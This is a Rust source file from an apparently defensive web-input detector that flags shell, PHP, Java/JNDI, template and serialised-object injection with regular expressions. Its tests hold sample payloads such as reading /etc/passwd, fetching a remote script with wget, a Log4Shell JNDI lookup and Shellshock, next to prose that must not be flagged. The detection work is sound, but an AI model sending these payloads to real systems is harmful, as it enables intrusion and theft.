//! Commands and code: shells of both families, PHP, Java, templates, serialised objects.
//!
//! In: decoded text. Out: whether it would run. English is full of command names (`find`, `more`,
//! `sort`, `time`), so a name counts only behind a shell's separator or with a shell's arguments.

use std::sync::LazyLock;

use super::patterns::Patterns;

/// Stems of which every pattern below needs at least one.
pub(super) const STEMS: &[&str] = &[
    ";",
    "|",
    "`",
    "$(",
    "${",
    "%{",
    "#{",
    "{{",
    "@{",
    "[[",
    "<(",
    "&",
    "/bin/",
    "/dev/",
    "cmd",
    "powershell",
    "() {",
    "(){",
    "wget",
    "curl",
    "ping ",
    "cat ",
    "\n",
    "bash",
    "<?",
    "<%",
    "system",
    "exec",
    "passthru",
    "popen",
    "proc_open",
    "eval",
    "assert",
    "base64_decode",
    "phpinfo",
    "call_user_func",
    "file_get",
    "file_put",
    "$_",
    "java.",
    "jndi",
    "runtime",
    "ognl",
    "memberaccess",
    "__",
    "o:",
    "ro0ab",
    "require(",
    "subprocess",
    "chmod",
    "rm -",
    "include",
    "nslookup",
    "netstat",
    "if ",
    "for ",
    "print",
    "<!--#",
    "classloader",
    "nc -",
    "sh -",
    "uname",
    "(",
    "~",
    "!",
    "=",
    "busybox",
    "{",
    "invoke-",
];

pub(super) fn is_in(text: &str) -> bool {
    if PATTERNS.is_match(text) {
        return true;
    }
    // Quotes, backslashes and empty variables inside a word hide it from readers, not from a shell.
    if !text.contains(['\'', '"', '\\', '^', '$']) {
        return false;
    }
    let bare: String = text
        .replace("$@", "")
        .chars()
        .filter(|c| !matches!(c, '\'' | '"' | '\\' | '^'))
        .collect();
    HIDDEN.is_match(&bare) && !HIDDEN.is_match(text)
}

/// Names that are a command whatever stands around them in a shell.
const COMMANDS: &str = r"(?:cat|ls|id|whoami|uname|pwd|ping6?|nc|ncat|netcat|curl|wget|bash|sh|zsh|ksh|csh|tcsh|dash|cmd(?:\.exe)?|powershell|pwsh|python\d?(?:\.\d)?|perl|php\d?|ruby|node|lua|gcc|nslookup|dig|host|dir|type|net\s+(?:user|view|localgroup|start|share)|ipconfig|ifconfig|ip\s+(?:a|addr|route)|netstat|ps|sleep|usleep|timeout|echo|rm|mv|cp|chmod|chown|tftp|ftp|telnet|ssh|scp|head|tail|tac|nl|od|xxd|hexdump|strings|base64|find\s+[/.]|env|printenv|set|export|kill|killall|touch|mkdir|nohup|vi|vim|nano|awk|sed|xargs|grep|tasklist|taskkill|systeminfo|ver|reg\s+(?:query|add)|reboot|shutdown|halt|crontab|useradd|adduser|passwd|sudo|su|mount|df|du|lsof|which|whereis|locate|hostname|uptime|last|w|who|groups|finger|getent|tar|gzip|unzip|busybox|socat|lynx|fetch|mail|sendmail|expr|printf|certutil|bitsadmin|mshta|rundll32|regsvr32|wscript|cscript|wmic|phpinfo)";

static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
    let patterns = [
        // a separator, a command, and an end or an argument that only a shell takes
        format!(r"(?:[;|`\n\r]|&&|\$\(|<\(|>\(|%0a)\s*[({{]*\s*(?:/?(?:usr/)?(?:local/)?s?bin/)?{COMMANDS}(?:$|\s*[;|&`)>\n#}}]|\s+[-/$.<>|;&*~'\x22\\{{]|\$ifs|\$\{{|<|\s+\w+\.\w+|\s+\w:)"),
        format!(r"&\s*(?:{COMMANDS})(?:\s*[;|&`)>]|\s+[-/$.<>|;&~]|\s*&|\.exe\b|\s+\w:|\s+https?:)"),
        r"^[\s\x22'\w)]{0,12}[;|&`]{1,2}\s*(?:id|ls|dir|ps|pwd|env|set|ver|whoami|uname|hostname|ifconfig|ipconfig|netstat|w|date)\s*[;|&`#]*$".to_owned(),
        // arguments that speak for themselves
        r"\b(?:cat|tac|less|more|head|tail|type|vi|vim|nano|strings|nl|od|xxd|base64|grep\s+\S+|cp|mv|find|ls(?:\s+-\w+)?|rm(?:\s+-\w+)?|source|chmod\s+\S+|touch|del|copy|dir)\s+(?:/(?:etc|proc|var|usr|bin|tmp|root|home|opt|dev|srv)\b|/\s*$|c:|\.\./|\$)".to_owned(),
        r"\bping6?\s+(?:-\w\s+\S+|-\w\d+|/\w)|\b(?:wget|curl|lwp-download|fetch|lynx)\s+(?:-{1,2}[\w-]+(?:[\s=]+\S+)?\s+)*(?:https?|ftp)://|\b(?:nc|ncat|netcat)(?:\.\w+)?\s+-\w*[elpvc]|\bnslookup\s+\S+\.\S+|\b(?:bash|sh|zsh|ksh|dash)\s+-[ci]\b|\b(?:python\d?|perl|ruby|php|node|lua)\s+-[cern]\b|\brm\s+-[rf]+|\bchmod\s+(?:[+-]x|[0-7]{3,4})\b|\bnetstat\s+-\w|\bps\s+(?:-\w+|aux)\b|\bbusybox\s+-?\w|\bping\.exe\b|\buname\s+-\w|\bls\s+-\w|\bdir\s+[a-z]:|\bnet\s+user\b|\bifconfig\s+-\w|\bid\s*;|\bsleep\s+\d+\s*[;|&)`]".to_owned(),
        r"(?:^|[^\w.])(?:/usr)?(?:/local)?/s?bin/(?:\w+|\*|\?+)|/dev/(?:tcp|udp)/|\b(?:cmd|command)(?:\.exe|\.com)?\s*/[ckr]\b|\bcmd\.exe\b|\bpowershell(?:\.exe)?\s+-|\bsystem32[/\\]|\binvoke-(?:expression|webrequest|command)\b|\biex\s*\(|\bdownloadstring\b|\bnew-object\s+net\.".to_owned(),
        r"\(\s*\)\s*\{\s*[^}]*[;|&]|^\s*\(\s*\)\s*\{|\{[-/\w?*.]*,\s*\}".to_owned(),
        r"\$\{?ifs\b|\$\((?:\(|\w|<|/)|\$\{[#!]?\w+[:/#%^,@]|`\s*[\w/.-]+(?:\s+[^`]*)?`|\{\w+,[-/\w.,]+\}|\{,[^}]*\}|\w(?:``|\$\(\)|<\(\)|\$@)+\s*\w*|<\(\s*\w|\$'\\|\$\{@?print|\|\|\s*(?:ping|sleep)\b".to_owned(),
        format!(r"^\s*!\s*(?:\d+|-\d+|!|{COMMANDS})\s*\S*$|^\s*~[-+\d]\d*$"),
        // commands in a variable, and those of SQLite's shell
        r"(?:;|&&|\|\|)\s*\$\w+\s+-\w|\b(?:ba|z|k|da)?sh\$\w+|;\s*(?:\\n)*\s*\.\s*(?:system|shell|sh|databases|import|output)\b".to_owned(),
        // batch files
        r"\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+\S|exist\s+\S+\.\w+|errorlevel\s+\d|defined\s+\w+\s+\S|cmdextversion\s+\d|\x22?%\w+%?\x22?\s*(?:==|equ|neq|geq|leq|gtr|lss))|\bif\s+\S.*\s*==\s*\S+.*\s+(?:\(|echo|cmd|call|goto|set|start|exit)|\bif\s+.*\s(?:equ|neq|geq|leq|gtr|lss)\s+\S|\bfor\s+(?:/[dflr]\s+)?.*%+\S*\s+in\s*\(".to_owned(),
        // PHP
        r"<\?(?:php|=|\s)|<%[=@!\s]|\b(?:php_value|auto_(?:pre|ap)pend_file|allow_url_(?:include|fopen)|disable_functions|open_basedir|safe_mode|extension_dir|memory_limit|error_log|display_errors|short_open_tag|max_execution_time|session\.save_path|include_path|suhosin\.\w+|cgi\.force_redirect)\s*(?:=|\s+(?:on|off|1|0))".to_owned(),
        // a call by the name of something that runs, prints or reads; words of English need an argument
        r"(?:gzinflate|gzdecode|gzuncompress|bzdecompress|p?fsockopen|base64_decode|call_user_func|shell_exec|passthru|proc_open)\s*\(|\b(?:substr|unpack|symlink|serialize|file(?:group|owner|perms|size|[amc]time|inode|type))\s*\(|\b\w+[\x0b\r\n]+\s*\(".to_owned(),
        r"\b(?:passthru|shell_exec|popen|proc_open|pcntl_exec|phpinfo|base64_decode|call_user_func|preg_replace|usort|readfile|fopen|fwrite|fputs|gzinflate|gzuncompress|bzdecompress|unserialize|putenv|getenv|scandir|opendir|fsockopen|pfsockopen|is_array|setcookie)[\x22')\]\s\x0b]*\(".to_owned(),
        r"\b(?:eval|assert|system|exec|chr|touch|md5|extract|symlink|crypt|range|file|serialize|unpack|substr|pi|create_function|print|echo|printf)[\x22')\]\s\x0b]*\(\s*['\x22$\w/<\[@.]".to_owned(),
        // no prose has `two_words(`, nor a comment between a name and its bracket
        r"\b[a-z]+\d?(?:_[a-z0-9]+)+\s*\(|\w\s*/\*(?s:.)*?\*/\s*\(|\w\s*(?:#|//)[^\n]{0,80}\n\s*\(|(?:->|::)\s*\$?\w+\s*\(|(?:^|[^\w$])[@$]*\$[a-z_]\w*\s*\(".to_owned(),
        r"\$_(?:get|post|request|cookie|server|files|session|env)\b|\$globals\b|\$\w*_*\w*\s*(?:\[[^\]]*\]|\{[^}]*\})+\s*\(\s*[^)\s]|\(\s*['\x22]?[\w.\x22'(): ]{2,40}['\x22]?\s*\)\s*\(\s*['\x22@$]?\w+|\[\s*[\x22']?\w+[\x22']?\s*\]\s*\[\s*\d+\s*\]\s*\)?\s*[({]|\$\w+(?:\[[^\]]*\])+\s*(?:/\*.*?\*/)?\s*\(|\[\s*[\x22']?\w+[\x22']?\s*\]\s*(?:\[\s*\d+\s*\])?\s*\(\s*['\x22]?\w|\$\{@?\w+\(|\bprint\s*\(?\s*md5\b|\becho\s*\(?\s*md5\b|@\$_".to_owned(),
        r#"\b[oc]:\d+:"[\w\\]+":\d+:|\ba:\d+:\{[is]:\d|\bro0ab[\w+/]{4}|\baced0005|\bh4siaaaa|_\$\$nd_func\$\$_|!!python/|!!javax?\.|!ruby/"#.to_owned(),
        // Java, templates
        r"\$\s*\{\s*(?:jndi|env|sys|java|lower|upper|date|ctx|main|bundle|::|base64|script|dns|url|file)\b|\$\{.*\$\{|\$\{\s*(?:::-?|[a-z]*:[^}]{0,30}:?-)|\bjndi\s*:\s*\w+|\bjava\.(?:lang|io|util|net|security)\.|\bgetruntime\b|\bprocessbuilder\b|\bclass\.(?:module\.)?classloader\b|\bclassloader\b|#_?memberaccess\b|\bognl\b|@java\.|\bt\s*\(\s*java|\bjavax\.|\bfreemarker\.|\bcom\.(?:sun|opensymphony)\.|\borg\.(?:apache|springframework|codehaus)\.".to_owned(),
        r"\{\{[^}]*(?:[*+(\[|]|__|\bconfig\b|\bself\b|\brequest\b|constructor|'|\.\w+\()|(?:\$|#|\*|@|%)\s*\{[^}]*(?:\d\s*[*+]\s*\d|\(|\[|t\s*\()|\[\[\s*\$?\{|@\{?\[|@\(\s*\d+\s*[*+]|<#assign|\{%\s*\w+|\{php\}|#set\s*\(|\$\{\{|\{\{=|<%\s*(?:=|if|for|import)|#\{\s*\w".to_owned(),
        r"\b__(?:import|class|globals|builtins|subclasses|mro|init|proto)__\b|\bos\.(?:system|popen|environ)\b|\bsubprocess\.\w+|\brequire\s*\(\s*['\x22`](?:child_process|fs|os|net|http)\b|\bprocess\.(?:env|mainmodule|binding)\b|\bconstructor\s*(?:\.|\[['\x22])\s*(?:prototype|constructor)|\bthis\.constructor\b|\bchild_process\b|\bimport\s+os\b|\bopen\s*\(\s*['\x22]/etc".to_owned(),
        // server-side includes, mail commands
        r"<!--\s*#\s*(?:exec|include|echo|config|fsize|flastmod|printenv)\b|[\r\n]\s*(?:bcc|cc|rcpt to|mail from|data|quit)\s*:?\s*\S|[\r\n]\s*quit\s*$|\bv100\d\s+(?:capability|list|fetch)".to_owned(),
    ];
    Patterns::new(patterns)
});

/// Looked for after quotes and backslashes are taken out; plain enough to be no accident.
static HIDDEN: LazyLock<Patterns> = LazyLock::new(|| {
    Patterns::new([
        r"/etc/(?:passwd|shadow)|/bin/(?:ba|z|k|da|c)?sh\b|/bin/cat\b|\b(?:system|passthru|shell_exec|phpinfo)\s*\(\s*\w|\bcmd\.exe\b",
        r"(?:[;|`\n]|&&|\$\()\s*(?:cat|ls|id|whoami|uname|wget|curl|bash|nc|ping|python\d?|perl)\b",
        r"^\s*(?:python[\d.]*|perl|ruby|bash|wget|curl|whoami|uname|nslookup|powershell)\s+\S+",
    ])
});

#[cfg(test)]
mod tests {
    use super::*;
    use crate::events::web::decode::decode;

    #[test]
    fn commands_and_code() {
        for raw in [
            "x;id",
            "x|whoami",
            "127.0.0.1;cat+/etc/passwd",
            "$(sleep+5)",
            "`uname+-a`",
            "a&&ping+-c+4+203.0.113.9",
            "x%0aid",
            "/bin/sh+-c+ls",
            "ping+-n+30+127.0.0.1",
            "wget+http://203.0.113.9/a.sh",
            "c'a't+/e'tc'/passwd",
            "()+{+:;};+/bin/ls",
            "<?php+phpinfo();",
            "system('ls')",
            "${jndi:ldap://203.0.113.9/a}",
            "${${lower:j}ndi:ldap://x}",
            "{{7*7}}",
            "{{config.items()}}",
            "%{(#_memberAccess['x'])}",
            "O:8:\"stdClass\":0:{}",
            "<!--#exec+cmd=\"ls\"-->",
            "cmd.exe+/c+dir",
            "cat${IFS}/etc/passwd",
        ] {
            assert!(is_in(&decode(raw, true)), "{raw}");
        }
    }

    #[test]
    fn command_names_in_prose() {
        for raw in [
            "rock+%26+more",
            "find+%26+sort",
            "tom;+dick;+harry",
            "cat+food",
            "cats+%26+dogs",
            "salt+%26+pepper",
            "the+system+is+down()",
            "who+is+it%3F",
            "time+warner",
            "exec+summary",
            "ping+pong",
            "a|b",
            "price:+$5",
            "limpi%24aas",
            "%24vastedad",
            "{{name}}",
            "100%+{cotton}",
            "if+it+rains",
            "for+rent+in+town",
            "C%2B%2B",
            "R%26D",
            "5%25+off;+today+only",
            "name=a;+type+b",
            "java+island",
            "head+%26+shoulders",
        ] {
            assert!(!is_in(&decode(raw, true)), "{raw}");
        }
    }
}
